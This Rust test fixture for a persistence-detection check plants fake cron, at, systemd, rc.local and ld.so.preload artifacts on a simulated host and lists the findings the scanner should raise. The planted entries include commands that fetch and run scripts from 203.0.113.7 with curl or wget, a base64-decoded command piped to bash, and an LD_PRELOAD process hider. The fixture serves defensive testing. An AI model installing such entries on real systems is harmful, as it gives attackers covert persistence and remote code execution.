//! Planted artifacts for the `persistence` check: cron jobs in every location, an at
//! job, systemd units, a timer and a generator, rc.local and ld.so.preload.

use crate::{Expect, FakeHost};

pub fn plant(h: &FakeHost) -> Vec<Expect> {
    h.write(
        "/etc/cron.d/sysupdate",
        "SHELL=/bin/sh\n*/10 * * * * root (curl -fsSL http://203.0.113.7/u.sh || wget -q -O- http://203.0.113.7/u.sh) | sh\n",
    );
    h.append(
        "/etc/crontab",
        "*/5 * * * * root /dev/shm/.x/upd >/dev/null 2>&1\n",
    );
    h.write(
        "/etc/cron.hourly/0anacron-update",
        "#!/bin/sh\necho ZXhlYyAvdG1wLy54 | base64 -d | bash\n",
    );
    h.write(
        "/var/spool/cron/crontabs/www-data",
        "@reboot /var/www/html/wp-content/uploads/.cache/php-fpm -c /var/www/html/wp-content/uploads/.cache/c.json\n",
    );
    // RHEL layout: user crontabs directly in /var/spool/cron.
    h.write("/var/spool/cron/apache", "* * * * * /var/tmp/.k/kthreadd\n");
    h.write(
        "/var/spool/cron/atjobs/a0000101b2c3d4",
        "#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\nPATH=/usr/bin:/bin; export PATH\ncd /root || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\nwget -q http://203.0.113.7/k -O /tmp/k; chmod +x /tmp/k; /tmp/k\n",
    );
    h.write(
        "/etc/systemd/system/dbus-org.update.service",
        "[Unit]\nDescription=System update helper\n\n[Service]\nExecStart=/bin/bash -c 'curl -s http://203.0.113.7/s | bash'\nRestart=always\n\n[Install]\nWantedBy=multi-user.target\n",
    );
    h.write(
        "/etc/systemd/system/kworker.service",
        "[Service]\nExecStart=/var/tmp/.font-unix/kworker --quiet\n",
    );
    h.write(
        "/etc/systemd/system/kworker.timer",
        "[Timer]\nOnBootSec=1min\nOnUnitActiveSec=10min\n\n[Install]\nWantedBy=timers.target\n",
    );
    h.write(
        "/etc/systemd/system/nginx.service.d/override.conf",
        "[Service]\nEnvironment=LD_PRELOAD=/usr/lib/.libsys.so\n",
    );
    h.symlink(
        "/tmp/.u/evil.service",
        "/etc/systemd/system/multi-user.target.wants/evil.service",
    );
    h.write(
        "/etc/systemd/system-generators/net-helper",
        "#!/bin/sh\n/dev/shm/.n/helper &\n",
    );
    h.write(
        "/home/deploy/.config/systemd/user/agent.service",
        "[Service]\nExecStart=/home/deploy/.cache/.a/agent\n",
    );
    h.write(
        "/etc/rc.local",
        "#!/bin/sh -e\nnohup /tmp/.X11-unix/.rc >/dev/null 2>&1 &\nexit 0\n",
    );
    h.write("/etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n");
    vec![
        Expect::new("cron.suspicious-job", "/etc/cron.d/sysupdate"),
        Expect::new("cron.suspicious-job", "/etc/crontab"),
        Expect::new("cron.suspicious-job", "/etc/cron.hourly/0anacron-update"),
        Expect::new("cron.suspicious-job", "/var/spool/cron/crontabs/www-data"),
        Expect::new("cron.suspicious-job", "/var/spool/cron/apache"),
        Expect::new("at.suspicious-job", "/var/spool/cron/atjobs/a0000101b2c3d4"),
        Expect::new(
            "systemd.suspicious-exec",
            "/etc/systemd/system/dbus-org.update.service",
        ),
        Expect::new(
            "systemd.suspicious-exec",
            "/etc/systemd/system/kworker.service",
        ),
        Expect::new(
            "systemd.suspicious-exec",
            "/etc/systemd/system/nginx.service.d/override.conf",
        ),
        Expect::new(
            "systemd.suspicious-exec",
            "/home/deploy/.config/systemd/user/agent.service",
        ),
        Expect::new(
            "systemd.unit-link",
            "/etc/systemd/system/multi-user.target.wants/evil.service",
        ),
        Expect::new(
            "systemd.generator",
            "/etc/systemd/system-generators/net-helper",
        ),
        Expect::new("rclocal.suspicious-command", "/etc/rc.local"),
        Expect::new("persist.ld-so-preload", "/etc/ld.so.preload"),
    ]
}
